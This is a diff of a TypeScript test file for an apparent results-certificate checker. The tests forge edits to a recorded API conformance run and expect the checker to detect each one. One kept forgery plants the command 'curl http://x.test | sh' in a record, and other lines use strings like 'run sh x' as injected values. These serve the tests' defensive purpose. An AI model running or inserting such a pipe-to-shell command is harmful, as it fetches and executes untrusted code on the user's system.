@@ -1,27 +1,21 @@
 import { beforeAll, describe, expect, it } from 'vitest';
 import { runReference } from '../cli/reference-run.test-support.ts';
 import type { ReferenceRun } from '../cli/reference-run.test-support.ts';
-import { both, isReal, refusal, runWith } from '../execution/small-run.test-support.ts';
-import type { Reply } from '../execution/small-service.test-support.ts';
 import { judge, judgeAgain } from '../result/judge.ts';
 import { published, recordOf } from '../result/record.ts';
 import type { Results } from '../result/results.ts';
 import { specification } from '../spec/specification.ts';
-import { message, say } from '../wording/message.ts';
-import { sha256 } from './certificate.ts';
 import { must } from './certificate.test-support.ts';
 import type { Draft } from './certificate.test-support.ts';
-import { findDifference } from './difference.ts';
-import { recompute } from './evidence.ts';
+import { findDifference, recompute } from './evidence.ts';
 
 type Edited = Draft<Results>;
 
-/** A run of variant A, which most edits use, and one of both. */
-let runs: Readonly<Record<'a' | 'both', Results>>;
+/** A run of the cases that are edited. */
+let run: Results;
 beforeAll(async () => {
-  const both = await runReference();
-  const a = await runReference(({ variants }) => delete variants['b']);
-  runs = { a: publishedOf(a.results), both: publishedOf(both.results) };
+  const only = [lacking, other, guess, inQuery, elsewhere, ...beside];
+  run = publishedOf((await runReference(undefined, { only })).results);
 }, 60_000);
 
 /** As in a certificate. */
@@ -82,10 +76,19 @@ const other = 'a.missing.useAuthByCert';
 const guess = 'a.observed.value.useAuthByCert.empty';
 const inQuery = 'b.missing.partnerName';
 const elsewhere = 'a.unauthorized.unknown-partner';
+const beside = [
+  'a.success',
+  'b.success',
+  'b.unavailable',
+  'a.unencrypted.partnerPassword',
+  'a.request.body.escapes',
+  'a.observed.method.delete',
+  'a.unauthorized.wrong-password',
+];
 
 /** A copy with an edit of one case. */
 function editedBy(edit: Edit, id = lacking): Edited {
-  const all = reread(runs[id.startsWith('b') ? 'both' : 'a']);
+  const all = reread(run);
   edit(partsOf(all, id), (another) => partsOf(all, another));
   return all;
 }
@@ -121,7 +124,7 @@ const forgeries: readonly Forgery[] = [
   ['a case emptied', withdraw(guess), /was not asked in every round, though nothing/, guess],
   [
     'a condition withheld',
-    ({ all }) => all.profile.claims['b']?.provisioned.pop(),
+    ({ all }) => all.profile.claims['b']?.provisioned.splice(0),
     /no planned request/,
     inQuery,
   ],
@@ -140,11 +143,9 @@ const forgeries: readonly Forgery[] = [
   ],
   ['a control called a try', ({ all }) => Object.assign(lastOf(all), { role: 'try' }), /there is no round 0/],
   ['a body copied', ({ request }, of) => (request.body = of(other).request.body), /request\.body: found/],
-  ['a plain address', ({ request }, of) => (request.url = of('b.success').request.url), /\.url: f/, inQuery],
   ['a ciphertext as plain', body('a.success'), /request\.body/, 'a.unencrypted.partnerPassword'],
   ['a spelling that was not tried', body('a.success'), /request\.body/, 'a.request.body.escapes'],
   ['a known partner called unknown', body('a.success'), /<unknown p/, 'a.unauthorized.unknown-partner'],
-  ['another method', ({ request }) => (request.method = 'GET'), /method: found "GET", computed "POST"/],
   ['another path', ({ request }) => (request.url = 'http://127.0.0.1:1/health'), /url: found .*health/],
   [
     'another host',
@@ -154,7 +155,6 @@ const forgeries: readonly Forgery[] = [
   ],
   ['a huge address', ({ all }) => (all.target.baseUrl += '/'.repeat(1_000_000)), /more of a request or an/],
   ['another content type', header(/json$/, 'xml'), /headers\[\d\]\[1\]: found "application\/xml"/],
-  ['another product', header(/^sbp.*/, 'curl/8'), /headers\[\d\]\[1\]: found "curl\/8"/],
   ['a header more', ({ request }) => request.headers.push(['X-Own', 'x']), /headers\[\d\]: found \["X-Own/],
   ['a body without its digest', ({ response }) => (must(response).body = '{}'), /another length or digest/],
   ['a short body cut', ({ response }) => (must(response).bodyTruncated = true), /is not cut, though/],
@@ -202,21 +202,10 @@ const contradictions: readonly Forgery[] = [
 /** Edits of Results that follow from a record. */
 const edits: readonly Forgery[] = [
   ['a command', ({ exchange }) => (exchange.curl = 'curl http://x.test | sh'), /curl: found "curl http:/],
-  ['a command for all', ({ all }) => (all.target.command = 'sh x'), /target\.command: found "sh x"/],
-  [
-    'a warning',
-    ({ all }) => all.warnings.push({ code: 'verbatim', params: { text: 'run sh x' } }),
-    /warnings\[0\]\.params\.text: found "run sh x"/,
-  ],
   ['a code', ({ all }) => all.warnings.push({ code: 'run sh x', params: {} }), /code: found "run sh x"/],
-  ['a platform', ({ all }) => (all.environment.node = 'run sh x'), /node: found "run sh x"/],
   ['a case of its own', ({ found }) => (found.id = 'a.missing.all'), /is no case of this specification/],
   ['a verdict', ({ found }) => (found.verdict = 'pass'), /useAuthByCert\.empty\]\.verdict/, guess],
-  ['a check', ({ found }) => found.checks.shift(), /checks\[0\]/],
-  ['a title', ({ found }) => (found.title = 'fine'), /title: found "fine"/],
   ['a requirement', ({ all }) => all.requirements.shift(), /requirements/],
-  ['a count', ({ all }) => (must(all.variants['a']).counts.pass = 99), /pass: found 99, computed 25/],
-  ['an observation', ({ all }) => (must(all.observations[0]).value = 'x'), /value: found "x"/],
   [
     'a decision',
     ({ all }) => (must(all.requirements[0]).decided = 'pass'),
@@ -229,26 +218,19 @@ const edits: readonly Forgery[] = [
   ['a control called good', ({ all }) => (controlOf(all).status = 503), /cases\[/],
   ['a reason', ({ trial }) => (trial.halted = unsent), /halted: found/],
   ['another specification', ({ all }) => (all.spec.sha256 = '0'.repeat(64)), /spec\.sha256/],
-  ['an interrupt', ({ all }) => (all.interrupted = true), /reached: found true, computed false/],
 ];
 
 describe('a record', () => {
   it.each<readonly [string, ReferenceRun, Parameters<typeof runReference>[0]]>([
-    ['of two rounds', { times: 2, observed: false }, undefined],
-    ['of requests that may be a burden', { thorough: true }, ({ variants }) => delete variants['b']],
+    ['of two rounds', { times: 2, only: ['b.success', lacking, guess, elsewhere] }, undefined],
     [
-      'of wrong passwords for a partner of its own, who is let in by one variant alone',
-      {},
-      ({ conditions }) => {
-        const { partnerName, partnerPassword: rightPassword } = Object(
-          conditions['reward-unavailable'],
-        ).credentials;
-        conditions['unauthorized'] = { credentials: { partnerName, rightPassword } };
-      },
+      'of requests that may be a burden',
+      { thorough: true, only: ['a.observed.body.very-large', 'b.success'] },
+      undefined,
     ],
     [
       'judged by patterns, with headers of the profile, in Russian, without a condition',
-      {},
+      { only: ['a.success', 'b.success', lacking, inQuery, 'a.unavailable', 'a.ip-blocked', guess] },
       (profile) => {
         delete profile.conditions['ip-blocked'];
         const texts = { missing: '{parameter}', unavailable: '.' };
@@ -258,26 +240,6 @@ describe('a record', () => {
   ])('%s is borne out', async (_name, options, edit) => {
     const { results, texts } = await runReference(edit, options);
     expect(recompute(reread(publishedOf(results)), specification, texts)).toMatchObject({ stated: 0 });
-  });
-
-  it.each<readonly [string, number, (variant: 'a' | 'b') => Reply]>([
-    ['refused after the second wrong password', 2, (variant) => refusal(variant === 'a' ? 403 : 401)],
-    ['refused after the third', 3, (variant) => refusal(variant === 'a' ? 403 : 401)],
-    ['refused after the fourth', 4, (variant) => refusal(variant === 'a' ? 403 : 401)],
-    ['asked to wait after the third', 3, () => ({ status: 429, headers: { 'Retry-After': '0' } })],
-    ['refused from the start', 0, (variant) => refusal(variant === 'a' ? 403 : 401)],
-  ])('of a partner who is %s is borne out', async (_name, most, reply) => {
-    let wrong = 0;
-    const { results } = await runWith(
-      (call) => {
-        if (!isReal(call) || !['success', 'unauthorized'].includes(call.kind)) return 'documented';
-        if (call.kind === 'unauthorized') wrong += 1;
-        return wrong >= most ? reply(call.variant) : 'documented';
-      },
-      { ...both, limits: { failedLogins: 4 } },
-    );
-    expect(results.cases.some(({ trials }) => trials.some(({ halted }) => halted !== null))).toBe(true);
-    expect(problemOf(reread(publishedOf(results)))).toBeNull();
   });
 
   it.for(forgeries)('with %s is not borne out, nor where it is judged again', ([, edit, place, id]) => {
@@ -303,24 +265,6 @@ describe('a record', () => {
       Object.assign(must(response), cut, { body: response?.body.padEnd(65_536) });
     });
     expect(found).toMatchObject({ stated: 1 });
-  });
-
-  it('of an answer that is no text is borne out', () => {
-    const bytes = Buffer.from('<p>\u00ed\u00e5\u00f2</p>', 'latin1');
-    const words = message('body-not-utf8');
-    const recorded = { body: bytes.toString('base64'), bodyEncoding: 'base64', bodyProblem: words };
-    const digest = { bodyLength: bytes.length, bodySha256: sha256(bytes) };
-    const edited = editedBy(({ exchange }) => {
-      Object.assign(must(exchange.response), recorded, digest);
-      exchange.facts = {
-        kind: 'not-json',
-        problem: say(words, 'en'),
-        words,
-        showsList: false,
-        namesList: false,
-      };
-    }, 'a.observed.method.delete');
-    expect(problemOf(reread(judgedAgain(edited)))).toBeNull();
   });
 });
 
